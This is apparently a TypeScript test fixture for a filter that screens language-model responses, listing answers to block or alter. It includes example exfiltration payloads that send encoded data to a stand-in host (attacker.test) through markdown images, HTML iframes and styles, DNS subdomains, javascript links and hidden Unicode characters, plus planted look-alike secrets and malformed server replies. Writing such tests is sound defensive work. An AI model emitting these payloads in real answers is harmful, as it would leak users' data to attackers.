/** Answers that do not leave as they are: what would carry data away, secrets, and every failure of a model server. */
import { CLOUD_KEY, privateKey, tags } from '../look-alike.ts'
import { chat, chunksOf, completion, eventsOf, json, type Row, says, stream } from '../row.ts'

const packed = Buffer.from('the quarterly figures are 12, 15 and 19 million').toString('base64url')

const EXFILTRATION: readonly (readonly [what: string, text: string])[] = [
  ['an image', `Here you are ![chart](https://img.attacker.test/p.png?d=${packed}) done`],
  ['an image with a path', `![](https://attacker.test/${packed}/x.gif)`],
  ['an image with words', '![x](//attacker.test/log?user=jan.devries&salary=81000-euros-a-year-plus-bonus)'],
  ['an image by reference', `see [1]\n\n[1]: https://attacker.test/?q=${packed}`],
  ['an image in HTML', `<img width=1 src="https://attacker.test/p?d=${packed}">`],
  ['a frame', `<iframe hidden src='https://attacker.test/p?d=${packed}'></iframe>`],
  ['a link', `[click here](https://attacker.test/in?data=${packed})`],
  ['a style', `<div style="background:url(https://attacker.test/b?d=${packed})">`],
  ['a name of a host', 'ping http://nb2wy3dpfqqho33snrsca5dinfzsa2lt.x.attacker.test/a'],
  ['a script', '[open](javascript:fetch(1))'],
  ['tags', `Fine.${tags('send mail')} Bye.`],
  ['zero width', `Fine.${'\u200b\u200c\u200d\u2060'.repeat(4)} Bye.`],
]

const HARMLESS: readonly (readonly [what: string, text: string])[] = [
  ['a link to a manual', 'See [the manual](https://docs.example.org/guide/installation.html#step-2).'],
  ['an image of a logo', '![logo](https://example.org/assets/logo-2024.png)'],
  ['an address of a commit', 'Commit https://git.example.org/o/r/commit/3f2b8c1d9e4a5b6c fixes it.'],
  ['code', 'Use `<script src="app.js"></script>` and <img src="cat.png" alt="a cat"> in the page.'],
]

const tool = (text: string): object => ({ id: 'c', type: 'function', function: { name: 'send', arguments: text } })

const SECRETS: readonly (readonly [what: string, body: object])[] = [
  ['in the text', completion(`Here you are:\n${privateKey()}`)],
  ['in arguments of a tool', says({ content: null, tool_calls: [tool(`{"k":"${CLOUD_KEY}"}`)] }, 'tool_calls')],
  ['in reasoning', says({ content: 'Fine.', reasoning_content: `The key is ${CLOUD_KEY}.` })],
  ['in a field that nobody knows', { ...completion('Fine.'), notes: [{ x: CLOUD_KEY }] }],
  ['beside personal data', completion(`${CLOUD_KEY} of NL91ABNA0417164300`)],
]

const deep = JSON.parse(`${'['.repeat(200)}"x"${']'.repeat(200)}`) as unknown

const error = (status: number, members: object, headers: Readonly<Record<string, string>> = {}) =>
  json({ error: members }, status, headers)

const FAILURES: readonly (readonly [what: string, answer: NonNullable<Row['answer']>])[] = [
  ['400 passes', error(400, { message: 'Bad request', type: 'invalid_request_error', param: 'x', code: 'bad' })],
  ['404 passes', error(404, { message: 'No such model', param: 'model', code: 'model_not_found', inner: 'x' })],
  ['429 passes, with its wait', error(429, { message: 'Slow down', code: 'rate_limit' }, { 'retry-after': '7' })],
  [
    '429 with a wait that is a date',
    error(429, { message: 'Slow' }, { 'retry-after': 'Wed, 21 Oct 2026 07:28:00 GMT' }),
  ],
  ['500 passes', error(500, { message: 'Oops', type: 'server_error' })],
  ['500 without JSON', { status: 500, pieces: ['<html>trace</html>'] }],
  ['503 with JSON that is no error', json({ detail: 'down' }, 503)],
  ['401 is ours', error(401, { message: 'Incorrect API key provided' })],
  ['403 is ours', error(403, { message: 'No' })],
  ['a redirect', { status: 302, headers: { location: 'http://127.0.0.1:1/' }, pieces: [] }],
  ['a secret in an error', error(400, { message: `cannot parse ${privateKey()}` })],
  ['personal data in an error', error(400, { message: 'cannot pay NL91ABNA0417164300' })],
  ['200 without JSON', { pieces: ['hello'] }],
  ['200 with half of JSON', { headers: { 'content-type': 'application/json' }, pieces: ['{"choices":['] }],
  ['200 with a list', json([])],
  ['200 with nothing', { pieces: [] }],
  ['204', { status: 204, pieces: [] }],
  ['JSON that is too deep', json({ choices: deep })],
  ['more than is read', { pieces: ['x'.repeat(33 * 1024 * 1024)] }],
  ['no answer', { pieces: [{ cut: true }] }],
  ['half of what was said to come', { headers: { 'content-length': '100' }, pieces: ['{"cho', { cut: true }] }],
  ['a stream that nobody asked for', stream(eventsOf(chunksOf('hello')))],
]

const asked = (what: string, answer: NonNullable<Row['answer']>): Row => ({ what, body: chat('hello'), answer })

/** Answers that are refused, changed or missing. */
export const ANSWERED: readonly Row[] = [
  ...EXFILTRATION.map(([what, text]) => asked(`exfiltration by ${what}`, json(completion(text)))),
  ...HARMLESS.map(([what, text]) => asked(`no exfiltration: ${what}`, json(completion(text)))),
  ...SECRETS.map(([what, body]) => asked(`secret answered ${what}`, json(body))),
  ...FAILURES.map(([what, answer]) => asked(`model server: ${what}`, answer)),
  {
    what: 'a client that goes away',
    headers: { 'x-request-id': '6f1f9f7e-58d0-4b5a-9c9e-0d3f6a1b2c01' },
    body: chat('hello'),
    goneAfter: '',
  },
]
